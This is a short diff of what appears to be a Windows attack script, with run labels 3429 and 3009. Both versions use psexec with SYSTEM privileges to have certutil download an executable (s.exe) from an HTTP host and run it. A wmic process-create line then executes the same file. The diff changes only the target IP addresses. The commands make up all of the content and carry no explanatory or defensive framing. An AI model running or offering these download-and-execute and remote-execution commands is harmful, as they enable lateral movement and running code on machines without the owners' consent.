@@ -1,3 +1,3 @@
-REM run 3429 v2
-psexec.exe \\192.0.2.44 -accepteula -s -d cmd /c "certutil -urlcache -f http://192.0.2.44/s.exe C:\s.exe && C:\s.exe"
-wmic /node:192.0.2.44 process call create "cmd /c C:\s.exe"
+REM run 3009 v2
+psexec.exe \\203.0.113.200 -accepteula -s -d cmd /c "certutil -urlcache -f http://203.0.113.200/s.exe C:\s.exe && C:\s.exe"
+wmic /node:203.0.113.200 process call create "cmd /c C:\s.exe"
